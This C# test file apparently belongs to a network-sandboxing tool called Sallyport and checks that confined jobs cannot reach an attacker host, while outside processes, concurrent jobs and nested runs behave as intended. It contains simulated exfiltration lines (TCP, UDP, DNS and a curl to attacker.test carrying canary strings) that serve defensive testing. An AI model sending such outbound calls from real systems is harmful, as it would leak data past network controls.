using Sallyport.Lab.Processes;

namespace Sallyport.Kernel.Tests;

/// <summary>Only the job is judged; two jobs do not disturb each other; an inner one cannot free itself.</summary>
public sealed class ScopeTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private static readonly TimeSpan s_deadline = TimeSpan.FromSeconds(90);

    [Fact]
    public async Task A_process_outside_the_job_reaches_everything_while_the_job_is_refused()
    {
        var outside = new List<ProcessOutcome>();
        var run = await Lab.RunAsync(LabMode.Block, Script(
            $"{Program("tcp")} connect {Attacker} 4443 inside{Canary} && exit 9",
            "echo refused",
            "while [ ! -e /run/lab/work/done ]; do sleep 0.02; done",
            $"{Program("tcp")} connect {Attacker} 4443 again{Canary} && exit 9",
            "rm /run/lab/work/done") with
        {
            Meanwhile = async job =>
            {
                await job.SaysAsync("refused", s_deadline);
                outside.Add(await Lab.OutsideAsync("tcp", "connect", Attacker, "4443", "tcp" + Canary));
                outside.Add(await Lab.OutsideAsync("udp", "sendto", Attacker, "5300", "udp" + Canary));
                outside.Add(await Lab.OutsideAsync("raw", "ping", Attacker, "ping" + Canary));
                outside.Add(await Lab.OutsideAsync(
                    "raw", "packet", "lab0", Client, Attacker, "5301", "frame" + Canary));
                outside.Add(await Lab.OutsideAsync("dns", "ask", Resolver, $"dns{Canary}.attacker.test", "A"));
                outside.Add(await Lab.OutsideAsync("dns", "ask", PublicResolver, $"txt{Canary}.test", "TXT"));
                outside.Add(await Lab.OutsideAsync("curl", "-sS", $"https://attacker.test/tls{Canary}"));
                File.WriteAllText(Path.Combine(Lab.WorkFolder, "done"), "");
            },
        });
        Assert.Equal(0, run.Process.ExitCode);
        foreach (var what in (string[])["tcp", "udp", "ping", "frame", "dns", "txt", "tls"])
        {
            Assert.True(run.Traffic.Contains(what + Canary), $"{what} of another process was cut off.\n{run}");
        }

        Assert.False(run.Traffic.Contains("inside" + Canary), run.ToString());
        Assert.False(run.Traffic.Contains("again" + Canary), run.ToString());
        Assert.DoesNotContain(run.Report.Connections, c => c.Protocol == "udp" && c.Port == 5300);
    }

    [Fact]
    public async Task Two_jobs_at_once_have_a_policy_each()
    {
        Lab.World.Clear();
        using var first = Lab.Start(LabMode.Block, Both(4443), Path.Combine(Lab.WorkFolder, $"first-{Canary}"));
        using var second = Lab.Start(LabMode.Block, Both(8080), Path.Combine(Lab.WorkFolder, $"second-{Canary}"));
        await first.SaysAsync("done", s_deadline);
        await second.SaysAsync("done", s_deadline);
        File.WriteAllText(Path.Combine(Lab.WorkFolder, Canary), "");
        var outcomes = new[] { await first.ExitAsync(s_deadline), await second.ExitAsync(s_deadline) };
        var traffic = Lab.World.Received();
        Assert.True(traffic.Contains($"4443-4443{Canary}"), $"{outcomes[0]}\n{traffic}");
        Assert.True(traffic.Contains($"8080-8080{Canary}"), $"{outcomes[1]}\n{traffic}");
        Assert.False(traffic.Contains($"4443-8080{Canary}"), $"{outcomes[0]}\n{traffic}");
        Assert.False(traffic.Contains($"8080-4443{Canary}"), $"{outcomes[1]}\n{traffic}");
    }

    [Fact]
    public async Task The_second_job_goes_on_when_the_first_has_ended()
    {
        Lab.World.Clear();
        var until = Path.Combine(Lab.WorkFolder, $"until-{Canary}");
        using var longer = Lab.Start(
            LabMode.Block,
            Script(
                "echo started",
                $"while [ ! -e /run/lab/work/until-{Canary} ]; do sleep 0.02; done",
                $"{Program("tcp")} connect {Attacker} 4443 {Canary} && exit 9 || exit 0"),
            Path.Combine(Lab.WorkFolder, $"longer-{Canary}"));
        await longer.SaysAsync("started", s_deadline);
        using (var shorter = Lab.Start(LabMode.Block, Command("true"), Path.Combine(Lab.WorkFolder, $"short-{Canary}")))
        {
            Assert.Equal(0, (await shorter.ExitAsync(s_deadline)).ExitCode);
        }

        File.WriteAllText(until, "");
        var outcome = await longer.ExitAsync(s_deadline);
        Assert.True(outcome.ExitCode == 0, outcome.ToString());
        Assert.False(Lab.World.Received().Contains(Canary), outcome.ToString());
    }

    [Fact]
    public async Task An_inner_run_cannot_allow_what_the_outer_refuses()
    {
        var product = LabOptions.FromEnvironment().Product;
        var run = await Lab.RunAsync(LabMode.Block, Script(
            $"{product} run --mode audit --quiet --cgroup-root {Lab.CgroupRoot} --allow tcp://{Attacker}:4443"
            + $" --output /run/lab/work/inner-{Canary} -- {Program("tcp")} connect {Attacker} 4443 {Canary} || true",
            $"{product} run --mode block --quiet --cgroup-root {Lab.CgroupRoot} --allow tcp://{Attacker}:4443"
            + $" --output /run/lab/work/inner2-{Canary} -- {Program("tcp")} connect {Attacker} 4443 {Canary} || true"));
        Assert.False(run.Traffic.Contains(Canary), run.ToString());
        Assert.True(run.Report.Connections.Any(c => c is { Address: Attacker, Verdict: "refused" }), run.ToString());
    }

    [Fact]
    public async Task A_job_that_ended_leaves_nothing_in_force()
    {
        await Lab.RunAsync(LabMode.Block, Command("true"));
        Lab.World.Clear();
        var outcome = await Lab.OutsideAsync("tcp", "connect", Attacker, "4443", Canary);
        Assert.True(outcome.ExitCode == 0, outcome.ToString());
        Assert.True(Lab.World.Received().Contains(Canary), outcome.ToString());
        Assert.Empty(Directory.EnumerateDirectories(Lab.CgroupRoot));
    }

    /// <summary>Tries both ports while the other job is alive; only its own is allowed.</summary>
    private LabCommand Both(int own) => Script(
        $"{Program("tcp")} connect {Attacker} 4443 {own}-4443{Canary} || true",
        $"{Program("tcp")} connect {Attacker} 8080 {own}-8080{Canary} || true",
        "echo done",
        $"while [ ! -e /run/lab/work/{Canary} ]; do sleep 0.02; done") with
    {
        Allow = [$"tcp://{Attacker}:{own}"],
    };
}
